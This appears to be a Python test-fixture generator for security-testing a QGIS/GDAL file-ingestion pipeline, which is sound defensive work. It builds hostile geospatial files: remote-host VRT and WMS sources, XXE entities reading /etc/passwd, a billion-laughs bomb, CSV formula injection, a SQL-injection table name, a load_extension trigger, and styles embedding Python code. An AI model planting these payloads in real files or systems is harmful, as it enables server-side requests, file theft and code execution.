"""Files that QGIS and GDAL would obey: rasters that are descriptions, styles with code, tables, GeoPackages."""

from __future__ import annotations

import sqlite3
import struct
import tempfile
from collections.abc import Iterator
from pathlib import Path

Files = dict[str, bytes]
"""The files of a delivery, by name."""


def deliveries(host: str, secret: Path) -> Iterator[tuple[str, Files]]:
    """Yield deliveries that would contact `host` (address and port), read `secret` or run code, were they obeyed."""
    yield from _descriptions(host, secret)
    yield from _styles(host)
    yield from _tables(host)
    yield from _geopackages(host)
    yield from _others(host, secret)


def _vrt(source: str, relative: int = 0) -> bytes:
    return (
        f'<VRTDataset rasterXSize="4" rasterYSize="4"><GeoTransform>2,0.1,0,48,0,-0.1</GeoTransform>'
        f'<VRTRasterBand dataType="Byte" band="1"><SimpleSource><SourceFilename relativeToVRT="{relative}">{source}'
        f"</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
    ).encode()


def _ogr_vrt(source: str) -> bytes:
    layer = f'<OGRVRTLayer name="x"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer>'
    return f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>".encode()


def _wms(host: str) -> bytes:
    return (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>http://{host}/${{z}}/${{x}}/${{y}}.png</ServerUrl></Service>'
        "<DataWindow><UpperLeftX>-20037508</UpperLeftX><UpperLeftY>20037508</UpperLeftY><LowerRightX>20037508"
        "</LowerRightX><LowerRightY>-20037508</LowerRightY><TileLevel>1</TileLevel><TileCountX>1</TileCountX>"
        "<TileCountY>1</TileCountY></DataWindow><Projection>EPSG:3857</Projection><BlockSizeX>256</BlockSizeX>"
        "<BlockSizeY>256</BlockSizeY><BandsCount>3</BandsCount></GDAL_WMS>"
    ).encode()


def _descriptions(host: str, secret: Path) -> Iterator[tuple[str, Files]]:
    sources = {
        "another host": f"/vsicurl/http://{host}/x.tif",
        "another host, streamed": f"/vsicurl_streaming/http://{host}/x.tif",
        "a file outside": str(secret),
        "a file above": f"../../{secret.name}",
        "a zip of another host": f"/vsizip//vsicurl/http://{host}/x.zip/x.tif",
        "a WMS": f"WMS:http://{host}/wms?LAYERS=x&amp;SRS=EPSG:4326&amp;BBOX=0,0,1,1&amp;VERSION=1.1.1",
        "a WCS": f"WCS:http://{host}/wcs?coverage=x",
        "a Postgres": f"PG:host={host.partition(':')[0]} port={host.partition(':')[2]}",
        "a share": "\\\\host\\share\\x.tif",
    }
    for suffix in (".vrt", ".tif", ".jp2", ".asc", ".png"):
        for name, source in sources.items():
            files = {f"a{suffix}": _vrt(source)}
            if suffix == ".png":
                files["a.pgw"] = b"0.1\n0\n0\n-0.1\n2\n48\n"
            yield f"VRT as {suffix} on {name}", files
        yield f"WMS description as {suffix}", {f"a{suffix}": _wms(host), "a.pgw": b"1\n0\n0\n-1\n2\n48\n"}
    for suffix in (".shp", ".gpkg", ".geojson", ".gml", ".kml", ".csv", ".fgb", ".sqlite", ".vrt"):
        yield f"OGR VRT as {suffix}", {f"a{suffix}": _ogr_vrt(f"/vsicurl/http://{host}/x.geojson")}
        yield f"OGR VRT on a WFS as {suffix}", {f"a{suffix}": _ogr_vrt(f"WFS:http://{host}/wfs")}
    yield "VRT with Python", {"a.vrt": _vrt("b.tif", 1).replace(b"<SimpleSource>", _PIXEL_CODE + b"<SimpleSource>")}
    yield "VRT on itself", {"a.vrt": _vrt("a.vrt", 1)}
    yield "VRTs on each other", {"a.vrt": _vrt("b.vrt", 1), "b.vrt": _vrt("a.vrt", 1)}
    yield "tiles of which one is a VRT", {"a.tif": _vrt(f"/vsicurl/http://{host}/x.tif"), "b.tif": _vrt(str(secret))}
    yield "aux.xml beside a raster", {"a.asc": _GRID, "a.asc.aux.xml": b"<PAMDataset>" + b"<a>" * 5000}


_PIXEL_CODE = (
    b"<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python</PixelFunctionLanguage>"
    b"<PixelFunctionCode>import os</PixelFunctionCode>"
)
_GRID = b"ncols 2\nnrows 2\nxllcorner 2\nyllcorner 48\ncellsize 0.1\n1 2\n3 4\n"
_POINTS = (
    b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"name":"<img src=x>"},'
    b'"geometry":{"type":"Point","coordinates":[2,48]}}]}'
)


def qml(host: str) -> dict[str, bytes]:
    """Give styles that hold code, by what they hold."""
    wrap = '<!DOCTYPE qgis PUBLIC "http://mrcc.com/qgis.dtd" "SYSTEM"><qgis version="3.22">{}</qgis>'
    parts = {
        "form code": "<editforminit>f</editforminit><editforminitcodesource>2</editforminitcodesource>"
        "<editforminitcode>"
        "<![CDATA[import os]]></editforminitcode>",
        "form code of a file": "<editforminit>f</editforminit><editforminitcodesource>1</editforminitcodesource>"
        "<editforminitfilepath>evil.py</editforminitfilepath>",
        "form of a file": f"<editform>http://{host}/x.ui</editform>",
        "action": '<attributeactions><actionsetting type="1" name="x" action="import os" shortTitle="x" icon="" '
        'isEnabledOnlyWhenEditable="0" notificationMessage="" capture="0" id="{1}"><actionScope id="Canvas"/>'
        "</actionsetting></attributeactions>",
        "action on open": '<attributeactions><defaultAction key="Canvas" value="{1}"/><actionsetting type="5" name="x" '
        'action="https://x" id="{1}" shortTitle="" icon="" isEnabledOnlyWhenEditable="0" notificationMessage="" '
        'capture="0"><actionScope id="Canvas"/></actionsetting></attributeactions>',
        "map tip": f"<mapTip>&lt;img src='http://{host}/x'>[% env('HOME') %]</mapTip>",
        "query of a project": '<customproperties><Option type="Map"><Option name="carto_mairie/source" type="QString" '
        'value="{&quot;kind&quot;: 3}"/></Option></customproperties>',
        "svg of another host": '<renderer-v2 type="singleSymbol"><symbols><symbol type="marker" name="0"><layer '
        f'class="SvgMarker"><prop k="name" v="http://{host}/x.svg"/></layer></symbol></symbols></renderer-v2>',
        "HTML widget": '<attributeEditorForm><attributeEditorHtmlElement name="x">&lt;img src="http://' + host + '/x"/>'
        "</attributeEditorHtmlElement></attributeEditorForm><editorlayout>tablayout</editorlayout>",
        "virtual field": '<expressionfields><field expression="env(\'HOME\')" name="x" type="10"/></expressionfields>',
        "deep": "<a>" * 5000,
    }
    return {name: wrap.replace("{}", text).encode() for name, text in parts.items()}


def _styles(host: str) -> Iterator[tuple[str, Files]]:
    for name, style in qml(host).items():
        yield f"QML beside its file: {name}", {"a.geojson": _POINTS, "a.qml": style}
        yield f"QML of another case: {name}", {"a.geojson": _POINTS, "A.qml": style}
    yield (
        "SLD with an entity",
        {
            "a.geojson": _POINTS,
            "a.sld": b"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><StyledLayerDescriptor>&y;</StyledLayerDescriptor>",
        },
    )
    yield "QML that is no XML", {"a.geojson": _POINTS, "a.qml": b"\x00\xff" * 100}


def _tables(host: str) -> Iterator[tuple[str, Files]]:
    tables = {
        "formulas": b"name,longitude,latitude\n=cmd|' /C calc'!A0,2,48\n",
        "NUL": b"name,longitude,latitude\n\x00,2,48\n",
        "no end of a quote": b'name,longitude,latitude\n"x,2,48\n' * 50,
        "a line of a megabyte": b"name,longitude,latitude\n" + b"x" * (1 << 20) + b",2,48\n",
        "2,000 columns": b",".join(b"c%d" % n for n in range(2000)) + b",longitude,latitude\n",
        "the same column twice": b"longitude,longitude,latitude,latitude\n1,2,3,4\n",
        "a column that is a parameter": b"longitude&file=/etc/passwd,latitude,longitude\n1,2,3\n",
        "UTF-16": "name,longitude,latitude\nx,2,48\n".encode("utf-16"),
        "nan": b"name,longitude,latitude\nx,nan,inf\ny,1e999,48\n",
        "nothing": b"",
        "one line without an end": b"longitude,latitude",
        "only delimiters": b";;;;;\n" * 500,
        "HTML": f"<html><img src='http://{host}/x'></html>".encode(),
    }
    for name, table in tables.items():
        yield f"CSV: {name}", {"a.csv": table}
    yield "CSV with a csvt", {"a.csv": tables["nan"], "a.csvt": b"Integer(999999999),Real,Evil"}
    for name in ("a&b=c.csv", "a#b.csv", "a?type=x.csv", "a%00.csv", "a b \u00e9.csv", "a|layername=x.csv"):
        yield f"CSV called {name}", {name: b"name,longitude,latitude\nx,2,48\n"}


def _geopackages(host: str) -> Iterator[tuple[str, Files]]:
    yield "GeoPackage: magic alone", {"a.gpkg": b"SQLite format 3\0"}
    yield "GeoPackage: noise", {"a.gpkg": b"SQLite format 3\0" + bytes(range(256)) * 40}
    for name, style in qml(host).items():
        yield f"GeoPackage with a style: {name}", {"a.gpkg": _geopackage(style.decode())}
    yield (
        "GeoPackage with a trigger",
        {"a.gpkg": _geopackage("", "CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT load_extension('x'); END")},
    )
    yield (
        "GeoPackage with a view",
        {
            "a.gpkg": _geopackage(
                "", "CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT x FROM c"
            )
        },
    )
    yield (
        "GeoPackage with a project",
        {"a.gpkg": _geopackage("", "CREATE TABLE qgis_projects(name TEXT PRIMARY KEY, metadata BLOB, content BLOB)")},
    )
    yield (
        "GeoPackage: table with a quote",
        {"a.gpkg": _geopackage("", 'CREATE TABLE "x""; DROP TABLE a; --" (fid INTEGER)')},
    )


def _geopackage(style: str, statement: str = "") -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.gpkg"
        from osgeo import ogr, osr

        source = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
        crs = osr.SpatialReference()
        crs.ImportFromEPSG(4326)
        layer = source.CreateLayer("a", crs, ogr.wkbPoint)
        feature = ogr.Feature(layer.GetLayerDefn())
        feature.SetGeometry(ogr.CreateGeometryFromWkt("POINT(2 48)"))
        layer.CreateFeature(feature)
        del layer, feature, source
        base = sqlite3.connect(path)
        if style:
            base.execute(
                "CREATE TABLE layer_styles(id INTEGER PRIMARY KEY, f_table_catalog TEXT, f_table_schema TEXT, "
                "f_table_name TEXT, f_geometry_column TEXT, styleName TEXT, styleQML TEXT, styleSLD TEXT, "
                "useAsDefault BOOLEAN, description TEXT, owner TEXT, ui TEXT, update_time DATETIME)"
            )
            base.execute(
                "INSERT INTO layer_styles VALUES (1,'','','a','geom','x',?,'',1,'','','','2026-01-01T00:00:00Z')",
                (style,),
            )
            base.execute(
                "INSERT INTO gpkg_contents(table_name,data_type,identifier) VALUES('layer_styles','attributes','s')"
            )
        if statement:
            base.execute(statement)
        base.commit()
        base.close()
        return path.read_bytes()


def _others(host: str, secret: Path) -> Iterator[tuple[str, Files]]:
    yield "GeoJSON deep", {"a.geojson": b"[" * 100_000}
    yield (
        "GeoJSON with a link",
        {
            "a.geojson": b'{"type":"FeatureCollection","features":[],"links":[{"rel":"next","href":"http://'
            + host.encode()
            + b'/x"}]}'
        },
    )
    yield "ESRI JSON service", {"a.geojson": b'{"type":"Topology","objects":{}}'}
    yield (
        "GML with a schema elsewhere",
        {"a.gml": _gml(host)},
    )
    yield "GML with an entity", {"a.gml": f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file://{secret}'>]><x>&y;</x>".encode()}
    yield "GML of a billion laughs", {"a.gml": _LAUGHS}
    yield (
        "KML with a link",
        {
            "a.kml": f'<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>http://{host}/x.kml</href></Link></NetworkLink></kml>'.encode()
        },
    )
    yield (
        "SHP of noise",
        {"a.shp": struct.pack(">i", 9994) + b"\xff" * 500, "a.shx": b"\xff" * 100, "a.dbf": b"\x03" + b"\xff" * 200},
    )
    yield "SHP without its companions", {"a.shp": struct.pack(">i", 9994) + b"\0" * 96}
    yield (
        "MIF with a million points",
        {"a.mif": b"Version 300\nColumns 0\nData\nRegion 1\n99999999\n1 2\n", "a.mid": b""},
    )
    yield (
        "TAB on another file",
        {"a.tab": f'!table\n!version 300\nDefinition Table\nFile "{secret}"\nType NATIVE\n'.encode()},
    )
    yield (
        "TIFF of a huge size",
        {
            "a.tif": b"II*\0\x08\0\0\0\x02\0\0\x01\x04\0\x01\0\0\0\xff\xff\xff\x7f"
            b"\x01\x01\x04\0\x01\0\0\0\xff\xff\xff\x7f\0\0\0\0"
        },
    )
    yield (
        "ASC of a huge size",
        {"a.asc": b"ncols 2000000000\nnrows 2000000000\nxllcorner 0\nyllcorner 0\ncellsize 1\n1"},
    )
    yield "LAZ of noise", {"a.laz": b"LASF" + b"\xff" * 400}
    yield "FlatGeobuf of noise", {"a.fgb": b"fgb\x03fgb\x00" + b"\xff" * 200}
    yield "folder called gdb", {"x.gdb/gdb": b"\xff" * 100, "x.gdb/a00000001.gdbtable": b"\xff" * 300}


def _gml(host: str) -> bytes:
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://{host}/x.xsd"'
    member = "<gml:featureMember><x:a><x:b>1</x:b></x:a></gml:featureMember>"
    space = 'xmlns:x="x" xmlns:gml="http://www.opengis.net/gml"'
    return f"<x:FeatureCollection {space} {schema}>{member}</x:FeatureCollection>".encode()


_LAUGHS = (
    b"<!DOCTYPE x [<!ENTITY a '"
    + b"ha" * 50
    + b"'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(8))
    + b"]><x>&i;</x>"
)
